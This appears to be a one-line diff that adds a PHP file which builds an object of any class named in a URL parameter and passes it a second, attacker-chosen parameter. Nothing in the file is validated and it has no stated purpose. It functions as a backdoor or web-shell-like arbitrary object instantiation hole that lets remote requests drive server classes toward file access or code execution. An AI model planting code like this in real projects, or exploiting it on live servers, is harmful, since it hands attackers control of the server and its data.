@@ -1,0 +1,1 @@
+<?php $t = $_GET["t"]; $cl = new $t($_GET["a"]); ?>
